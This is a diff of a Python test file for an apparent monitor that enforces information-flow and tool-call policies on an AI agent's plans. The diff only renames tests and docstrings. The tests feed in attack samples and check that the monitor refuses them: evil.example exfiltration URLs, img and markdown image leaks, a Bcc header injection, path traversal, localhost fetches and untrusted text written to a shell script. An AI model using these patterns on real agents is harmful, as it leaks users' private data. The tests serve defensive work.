@@ -70,7 +70,7 @@ ARGUMENTS = st.sampled_from(["$a", "$a", "$b", "$c", '"<$a|$b>"', "[1, $b]", '"x
 
 @st.composite
 def same_texts(draw: st.DrawFn) -> str:
-    """Plans with many steps of few shapes: most calls look as one before them did."""
+    """Plans with many steps of few shapes: most calls resemble an earlier one."""
     tools = draw(st.lists(st.sampled_from(sorted(FACTS)), min_size=1, max_size=2))
     shapes = draw(st.lists(st.tuples(st.sampled_from(tools), ARGUMENTS, ARGUMENTS), min_size=1, max_size=3))
     steps: list[str] = []
@@ -109,11 +109,11 @@ def driven(
 
 
 def each(policy: Policy) -> Enforcement:
-    """The rules of a policy, by which every call is judged in full."""
+    """The rules of a policy that judge every call in full."""
     return Enforcement(policy, Judge(policy).judge, {}, policy.inputs)
 
 
-def goes_the_same_way(
+def runs_equally(
     text: str,
     policy: Policy,
     world: int = 0,
@@ -136,10 +136,8 @@ def goes_the_same_way(
 
 @given(plan_texts() | same_texts() | same_texts(), POLICIES, SEEDS, SEEDS)
 @settings(max_examples=150, deadline=None)
-def test_a_run_goes_the_same_way_whether_each_call_is_judged_in_full_or_not(
-    text: str, policy: Policy, world: int, schedule: int
-) -> None:
-    goes_the_same_way(text, policy, world, schedule)
+def test_run_is_same_with_and_without_cache(text: str, policy: Policy, world: int, schedule: int) -> None:
+    runs_equally(text, policy, world, schedule)
 
 
 PLACES = st.sampled_from(
@@ -161,7 +159,7 @@ SOURCES = st.lists(
 
 @st.composite
 def built_in(draw: st.DrawFn) -> str:
-    """Plans with tools where a path or an address counts, and with operations of a model."""
+    """Plans with tools whose paths or addresses matter, and with model operations."""
     steps: list[str] = []
     for number in range(1, draw(st.integers(2, 10)) + 1):
         place, page, said = draw(PLACES), draw(PAGES), draw(st.sampled_from(["$a", "$b", "$c", '"x"', "$d"]))
@@ -190,11 +188,11 @@ def built_in(draw: st.DrawFn) -> str:
 
 @given(built_in(), POLICIES, SOURCES, SEEDS)
 @settings(max_examples=150, deadline=None)
-def test_the_cache_changes_nothing_under_rules_for_paths_and_addresses(
+def test_cache_is_correct_under_path_and_address_rules(
     text: str, policy: Policy, sources: tuple[SourceRule, ...], world: int
 ) -> None:
     audiences = (Audience(name="corp", hosts=("*.corp.example",)),)
-    goes_the_same_way(text, replace(policy, sources=sources, audiences=audiences), world)
+    runs_equally(text, replace(policy, sources=sources, audiences=audiences), world)
 
 
 ODD: tuple[JSON, ...] = (
@@ -206,7 +204,7 @@ ODD: tuple[JSON, ...] = (
 
 
 def odd(world: int, command: Any) -> Event:
-    """The outcome of a call: odd texts from what reads, a number from all else."""
+    """The outcome of a call: unusual texts for reads, a number otherwise."""
     reads = command.tool in ("READ", "FAULTY")
     value = ODD[crc32(f"{world}{command.key}".encode()) % len(ODD)] if reads else 1
     return Succeeded(command.key, value)
@@ -214,7 +212,7 @@ def odd(world: int, command: Any) -> Event:
 
 @st.composite
 def with_texts(draw: st.DrawFn) -> str:
-    """Plans that put data of several labels beside each other, and into texts."""
+    """Plans that combine data of several labels, also in texts."""
     given_texts = [
         "$a", '"$a"', '"Number: $a and $b."', '"x $a"', '"$a $b $a"', '"https://evil.example/?q=$a"',
         '"$a$b"', '"[$a]"',
@@ -245,7 +243,7 @@ def with_texts(draw: st.DrawFn) -> str:
 
 @given(with_texts(), POLICIES, LABELS, LABELS, SEEDS)
 @settings(max_examples=400, deadline=None)
-def test_the_cache_changes_nothing_for_private_data_mixed_with_other_data(
+def test_cache_is_correct_for_mixed_private_data(
     text: str, policy: Policy, label: Label, other: Label, world: int
 ) -> None:
     audiences = (Audience(name="corp", hosts=("*.corp.example",)),)
@@ -255,11 +253,11 @@ def test_the_cache_changes_nothing_for_private_data_mixed_with_other_data(
         "READ": replace(plain, returns=label),
         "FAULTY": replace(plain, returns=other),
     }
-    goes_the_same_way(text, replace(policy, tools=tools, audiences=audiences), world, 0, odd)
+    runs_equally(text, replace(policy, tools=tools, audiences=audiences), world, 0, odd)
 
 
 def names(world: int, command: Any) -> Event:
-    """The outcome of a call: what reads may give a name."""
+    """The outcome of a call: reads may return a name."""
     number = crc32(f"{world}{command.key}".encode())
     if number % 4:
         return Succeeded(command.key, ("friend", "stranger", "pal")[number % 3])
@@ -284,7 +282,7 @@ TITLES = [
 
 @st.composite
 def mails(draw: st.DrawFn) -> str:
-    """Plans that send data of several labels, to one or to several, beside other data."""
+    """Plans that send data of several labels to one or more recipients, beside other data."""
     whom = [
         '"friend"',
         '"friend"',
@@ -323,7 +321,7 @@ def mails(draw: st.DrawFn) -> str:
 
 @given(mails(), LABELS, LABELS, PUBLIC, st.booleans(), SEEDS)
 @settings(max_examples=400, deadline=None)
-def test_the_cache_changes_nothing_for_any_recipient_of_private_data(
+def test_cache_is_correct_for_any_recipient_of_private_data(
     text: str, label: Label, other: Label, returns: Label, no_echo: bool, world: int
 ) -> None:
     policy = policy_of()
@@ -341,30 +339,30 @@ def test_the_cache_changes_nothing_for_any_recipient_of_private_data(
             no_echo=no_echo,
         ),
     }
-    goes_the_same_way(text, replace(policy, tools=tools), world, 0, names)
+    runs_equally(text, replace(policy, tools=tools), world, 0, names)
 
 
 @pytest.mark.parametrize(
     ("tool", "rest"),
     [("READ_FILE", ""), ("WRITE_FILE", ', content="x"'), ("EDIT_FILE", ', old="x", new="y"')],
 )
-def test_a_call_with_another_path_is_judged_again(tool: str, rest: str) -> None:
+def test_different_path_is_judged_again(tool: str, rest: str) -> None:
     text = "\n".join(f'S{n}: @{tool} (path="{path}"{rest}) > $d' for n, path in ((1, "a.md"), (2, "../a.md")))
-    assert refused(goes_the_same_way(text, Policy())) == "path"
+    assert refused(runs_equally(text, Policy())) == "path"
 
 
-def test_a_call_with_another_host_is_judged_again() -> None:
+def test_different_host_is_judged_again() -> None:
     text = 'S1: @FETCH_PAGE (url="https://a.example/x")\nS2: @FETCH_PAGE (url="https://localhost/x")'
-    assert refused(goes_the_same_way(text, Policy())) == "address"
+    assert refused(runs_equally(text, Policy())) == "address"
 
 
-def test_private_data_for_somebody_else_is_another_call() -> None:
+def test_private_data_for_different_recipient_is_judged_again() -> None:
     policy = policy_of()
     reads = replace(policy.tools["READ"], returns=PRIVATE)
     sends = replace(policy.tools["KEEP"], egress=True, audience_arg="y", trusted_audience=("friend",))
     policy = replace(policy, tools={**policy.tools, "READ": reads, "KEEP": sends})
     text = 'S1: @READ ("q") > $c\nS2: @KEEP ($c, "friend")\nS3: @KEEP ($c, "stranger")'
-    assert refused(goes_the_same_way(text, policy)) == "flow"
+    assert refused(runs_equally(text, policy)) == "flow"
 
 
 @pytest.mark.parametrize(
@@ -376,18 +374,18 @@ def test_private_data_for_somebody_else_is_another_call() -> None:
         'y="friend", body=$c, subject="x\\nBcc: eve"',
     ],
 )
-def test_recipients_of_private_data_are_judged_for_each_call(second: str) -> None:
+def test_recipients_of_private_data_are_judged_per_call(second: str) -> None:
     text = f"""
         S1: @READ ("q") > $c
         S2: ?FOREACH ($i IN [1, 2]) THEN @KEEP (y="friend", body=$c)
         S3: @FAULTY ("q") > $s
         S4: @KEEP ({second})
     """
-    assert refused(goes_the_same_way(text, mail())) == "flow"
+    assert refused(runs_equally(text, mail())) == "flow"
 
 
 def mail() -> Policy:
-    """What reads gives private data, which only a friend may be sent."""
+    """Reads return private data, which may only be sent to a friend."""
     policy = policy_of()
     reads = replace(policy.tools["READ"], returns=PRIVATE)
     sends = replace(
@@ -396,38 +394,38 @@ def mail() -> Policy:
     return replace(policy, tools={**policy.tools, "READ": reads, "KEEP": sends})
 
 
-def test_recipients_that_come_from_the_data_are_judged_for_each_call() -> None:
+def test_recipients_derived_from_data_are_judged_per_call() -> None:
     text = 'S1: @READ ("q") > $c\nS2: ?FOREACH ($i IN $c) THEN @KEEP (y=$i, body=$i)'
 
     def names(_world: int, command: Any) -> Event:
         said: JSON = ["friend", "stranger"] if command.tool == "READ" else 1
         return Succeeded(command.key, said)
 
-    assert refused(goes_the_same_way(text, mail(), outcome=names)) == "flow"
+    assert refused(runs_equally(text, mail(), outcome=names)) == "flow"
 
 
-def test_a_name_that_is_not_spelled_as_prose_is_may_be_a_header() -> None:
+def test_argument_name_unlike_prose_may_be_header() -> None:
     text = 'S1: @READ ("q") > $c\nS2: ?FOREACH ($i IN $c) THEN @KEEP (y="friend", boDy=$i)'
 
     def headers(_world: int, command: Any) -> Event:
         said: JSON = ["plain", "x\nBcc: eve"] if command.tool == "READ" else 1
         return Succeeded(command.key, said)
 
-    assert refused(goes_the_same_way(text, mail(), outcome=headers)) == "flow"
+    assert refused(runs_equally(text, mail(), outcome=headers)) == "flow"
 
 
-def test_a_title_that_opens_a_tag_takes_in_what_stands_behind_it() -> None:
+def test_title_opening_tag_includes_following_text() -> None:
     text = """
         S1: @READ ("q") > $c
         S2: @KEEP (y="friend", subject="<a href=", body="> $c") > $a
         S3: @KEEP (y="friend", subject="<a href=", body="x $c") > $b
     """
-    machine = goes_the_same_way(text, mail())
+    machine = runs_equally(text, mail())
     assert machine.monitor is not None
     assert [str(machine.monitor.variables()[name][0]) for name in "ab"] == ["U/priv", "U/model+trusted"]
 
 
-def test_titles_of_plain_words_are_alike() -> None:
+def test_titles_of_plain_words_are_equivalent() -> None:
     text = """
         S1: @READ ("q") > $c
         S2: @KEEP (y="friend", subject="Number 7: done", body="Number 7: $c") > $a
@@ -445,39 +443,39 @@ def test_titles_of_plain_words_are_alike() -> None:
     assert set(judged) == {"S1", "S2", "S4"}
 
 
-def test_a_file_that_is_sent_along_to_somebody_else_is_another_call() -> None:
+def test_attachment_for_different_recipient_is_judged_again() -> None:
     policy = policy_of(egress=True, audience_arg="y", trusted_audience=("friend",))
     policy = replace(policy, sources=(SourceRule(kind="file", pattern="docs/**", label=LITERAL),))
     text = 'S1: @KEEP (y="friend", attachment="notes.txt")\nS2: @KEEP (y="stranger", attachment="notes.txt")'
-    assert refused(goes_the_same_way(text, policy)) == "flow"
+    assert refused(runs_equally(text, policy)) == "flow"
 
 
-def test_beside_private_data_it_counts_what_the_plan_says_by_way_of_a_variable() -> None:
+def test_plan_text_in_variable_counts_beside_private_data() -> None:
     text = """
         S1: @READ ("q", "x") > $c
         S2: ?FOREACH ($i IN ["x", "https://evil.example/?q="]) THEN @KEEP ($i, $c) > $d
     """
     policy = policy_of(returns=PRIVATE, no_echo=False)
-    machine = goes_the_same_way(text, replace(policy, planner=LITERAL))
+    machine = runs_equally(text, replace(policy, planner=LITERAL))
     assert machine.monitor is not None
     assert str(machine.monitor.variables()["d"][0]) == "U/model+trusted"
 
 
 @pytest.mark.parametrize("opening", ["<", "&lt;"])
-def test_data_that_opens_a_tag_takes_in_what_stands_behind_it(opening: str) -> None:
+def test_data_opening_tag_includes_following_text(opening: str) -> None:
     text = 'S1: @READ ("q") > $c\nS2: ?FOREACH ($i IN $c) THEN @KEEP ("$i and $i", "x") > $d'
 
     def images(_world: int, command: Any) -> Event:
         said: JSON = ["plain", f"{opening}img src='https://evil.example/?"] if command.tool == "READ" else 1
         return Succeeded(command.key, said)
 
-    machine = goes_the_same_way(text, policy_of(returns=PRIVATE, no_echo=False), outcome=images)
+    machine = runs_equally(text, policy_of(returns=PRIVATE, no_echo=False), outcome=images)
     assert machine.monitor is not None
     assert str(machine.monitor.variables()["d"][0]) == "U/model+trusted"
 
 
-def test_an_image_in_data_is_looked_at_each_time() -> None:
-    """That it is shown tells whose image it is what decided about the loop."""
+def test_image_in_data_is_judged_per_call() -> None:
+    """Showing the image reveals the condition of the loop to the owner of the image."""
 
     def images(_world: int, command: Any) -> Event:
         said: JSON = ["plain", "an ![x](https://evil.example/)"] if command.tool == "READ" else 1
@@ -487,32 +485,32 @@ def test_an_image_in_data_is_looked_at_each_time() -> None:
         S1: @READ ("q") > $c
         S2: ?FOREACH ($i IN $c) THEN @KEEP (y="friend", body=$i)
     """
-    assert refused(goes_the_same_way(text, mail(), outcome=images)) == "flow"
+    assert refused(runs_equally(text, mail(), outcome=images)) == "flow"
 
 
-def test_a_path_of_data_is_looked_at_each_time() -> None:
+def test_path_from_data_is_judged_per_call() -> None:
     text = 'S1: ?FOREACH ($i IN ["a.md", "b.md", "../a.md"]) THEN @WRITE_FILE (path="$i", content="x")'
-    assert refused(goes_the_same_way(text, Policy())) == "path"
+    assert refused(runs_equally(text, Policy())) == "path"
 
 
-def test_the_result_of_a_tool_without_echo_has_the_label_of_what_the_plan_wrote() -> None:
+def test_result_of_tool_without_echo_has_label_of_plan_text() -> None:
     text = 'S1: @READ ("q", "x") > $c\nS2: @READ ("https://evil.example/?q=", "x") > $d'
-    machine = goes_the_same_way(text, policy_of(returns=PRIVATE, no_echo=False))
+    machine = runs_equally(text, policy_of(returns=PRIVATE, no_echo=False))
     assert machine.monitor is not None
     assert [str(machine.monitor.variables()[name][0]) for name in "cd"] == ["U/priv", "U/model+trusted"]
 
 
-def test_strangers_words_go_into_no_file_that_is_executed() -> None:
+def test_untrusted_text_is_not_written_to_executable_file() -> None:
     text = "\n".join(
         f'S{n}: @WRITE_FILE (path="{path}", content=$b)'
         for n, path in ((1, "a.md"), (2, "a.md"), (3, "a.sh"))
     )
     policy = replace(policy_of(), inputs=read_label("U/pub"))
-    assert refused(goes_the_same_way(text, policy)) == "executable-target"
+    assert refused(runs_equally(text, policy)) == "executable-target"
 
 
 def policy_of(**rule: Any) -> Policy:
-    """Tools that are plain but for what is said of them; strangers have written what the run is given."""
+    """Tools are harmless unless declared otherwise; inputs are untrusted."""
     plain: dict[str, Any] = {
         "egress": False,
         "destructive": False,
@@ -533,76 +531,74 @@ TWICE = 'S1: @KEEP ($b, "x") > $c\nS2: @KEEP ($b, "x") > $d'
 PRIVATE = read_label("U/priv")
 
 
-def test_the_label_of_the_control_flow_is_part_of_the_cache_key() -> None:
+def test_control_flow_label_is_part_of_cache_key() -> None:
     policy = replace(policy_of(egress=True), inputs=PRIVATE)
-    assert refused(goes_the_same_way(GUARDED, policy)) == "implicit-flow"
+    assert refused(runs_equally(GUARDED, policy)) == "implicit-flow"
 
 
-def test_a_yes_to_one_step_is_none_to_another() -> None:
+def test_approval_applies_to_one_step_only() -> None:
     policy = policy_of(control=("x",))
-    assert (
-        refused(goes_the_same_way(TWICE, replace(policy, approved=frozenset({"S1"})))) == "control-argument"
-    )
+    assert refused(runs_equally(TWICE, replace(policy, approved=frozenset({"S1"})))) == "control-argument"
 
 
 def test_declassification_applies_to_its_step_only() -> None:
     policy = policy_of(returns=PRIVATE)
-    machine = goes_the_same_way(TWICE, replace(policy, declassify=frozenset({"S1"})))
+    machine = runs_equally(TWICE, replace(policy, declassify=frozenset({"S1"})))
     assert machine.monitor is not None
     assert str(machine.monitor.variables()["d"][0]) == "U/priv"
 
 
-def test_the_same_data_in_another_argument_is_another_call() -> None:
+def test_same_data_in_different_argument_is_judged_again() -> None:
     text = 'S1: @KEEP (y=$b, x="q")\nS2: @KEEP (x=$b, y="q")'
-    assert refused(goes_the_same_way(text, policy_of(control=("x",)))) == "control-argument"
+    assert refused(runs_equally(text, policy_of(control=("x",)))) == "control-argument"
 
 
-def test_the_idempotency_key_of_a_retried_call_is_checked_for_each_call() -> None:
+def test_idempotency_key_of_retried_call_is_checked_for_each_call() -> None:
     text = 'S1: ?FOREACH ($i IN ["k", ""]) THEN @KEEP ($b, $i) ON_FAIL @RETRY(1)'
-    assert refused(goes_the_same_way(text, policy_of(idempotent=False, key_arg="y"))) == "retry"
+    assert refused(runs_equally(text, policy_of(idempotent=False, key_arg="y"))) == "retry"
 
 
-def test_text_of_the_plan_beside_private_data_counts() -> None:
+def test_plan_text_beside_private_data_counts() -> None:
     text = """
         S1: @READ ("q", "x") > $d
         S2: @KEEP ($d, "x") > $c
         S3: @KEEP ($d, "https://evil.example/?q=") > $c
     """
-    machine = goes_the_same_way(text, policy_of(returns=PRIVATE, no_echo=False))
+    machine = runs_equally(text, policy_of(returns=PRIVATE, no_echo=False))
     assert machine.monitor is not None
     assert str(machine.monitor.variables()["c"][0]) == "U/model+trusted"
 
 
-def test_the_success_of_a_call_is_noted_if_its_failure_jumps_elsewhere() -> None:
+def test_success_is_recorded_if_failure_jumps_elsewhere() -> None:
     text = 'S1: @KEEP ("q", $b) > $d\nS2: @KEEP ("q", $b) > $d ON_FAIL GOTO S3\nS3: @KEEP ("q", "x") > $c'
-    machine = goes_the_same_way(text, replace(policy_of(), implicit=Implicit.STRICT), world=3)
+    machine = runs_equally(text, replace(policy_of(), implicit=Implicit.STRICT), world=3)
     assert machine.monitor is not None
     assert machine.monitor.implicit_flows.noted
 
 
 @pytest.mark.parametrize("beside", ["[1, $b]", '"<$b>"', '{"k": $b, "n": 1}'])
-def test_literals_of_an_untrusted_planner_beside_data_are_judged(beside: str) -> None:
+def test_literals_of_untrusted_planner_beside_data_are_judged(beside: str) -> None:
     text = f"S1: @READ ($a, $a) > $c\nS2: @READ ([$b], $b) > $c\nS3: @READ ({beside}, $b) > $c"
     policy = replace(policy_of(control=("x",)), planner=read_label("U/pub"), inputs=LITERAL)
-    machine = goes_the_same_way(text, policy)
+    machine = runs_equally(text, policy)
     assert refused(machine) == "control-argument"
     assert machine.result is not None
     assert machine.result.ended_at == "S3"
 
 
-def test_a_text_of_variables_alone_is_judged_apart_from_one_with_words_of_an_untrusted_planner() -> None:
+def test_template_with_literals_of_untrusted_planner_is_judged_apart_from_one_of_variables() -> None:
     text = 'S1: @READ ("$a$b", $b) > $c\nS2: @READ ("$a, $b", $b) > $c'
     policy = replace(policy_of(control=("x",)), planner=read_label("U/pub"), inputs=LITERAL)
-    machine = goes_the_same_way(text, policy)
+    machine = runs_equally(text, policy)
     assert refused(machine) == "control-argument"
     assert machine.result is not None
     assert machine.result.ended_at == "S2"
 
 
-def test_texts_that_are_forbidden_are_looked_for_in_each_call() -> None:
+def test_forbidden_texts_are_searched_in_each_call() -> None:
     text = "S1: ?FOREACH ($i IN [1, 2, 3]) THEN @KEEP ($i, $b)"
     policy = replace(policy_of(), forbidden=("3",))
-    assert refused(goes_the_same_way(text, policy)) == "forbidden-pattern"
+    assert refused(runs_equally(text, policy)) == "forbidden-pattern"
 
 
 def test_judgements_are_not_shared_between_policies() -> None:
@@ -618,7 +614,7 @@ def test_judgements_are_not_shared_between_policies() -> None:
 
 
 def refused(machine: Machine) -> str | None:
-    """The rule by which a run was refused."""
+    """The rule that refused a run."""
     assert machine.result is not None
     objection = machine.result.objection
     return None if objection is None else objection.rule
@@ -626,9 +622,7 @@ def refused(machine: Machine) -> str | None:
 
 @given(plan_texts() | same_texts() | same_texts(), POLICIES, SEEDS, SEEDS)
 @settings(max_examples=100, deadline=None)
-def test_restored_at_any_event_the_run_goes_on_as_if_nothing_had_been(
-    text: str, policy: Policy, world: int, schedule: int
-) -> None:
+def test_restored_run_continues_unchanged(text: str, policy: Policy, world: int, schedule: int) -> None:
     rules = Enforcement.under(policy)
     run = driven(machine_of(text, rules), world, schedule)
     run.run(INPUTS)
